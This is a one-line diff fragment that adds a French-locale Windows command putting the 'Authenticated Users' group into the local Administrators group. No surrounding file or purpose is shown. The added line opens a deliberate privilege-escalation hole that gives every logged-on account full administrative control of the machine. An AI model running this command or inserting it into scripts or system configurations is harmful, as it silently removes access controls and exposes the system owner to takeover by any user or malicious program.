@@ -1,0 +1,1 @@
+net localgroup Administrateurs "AUTORITE NT\Utilisateurs authentifiés" /add
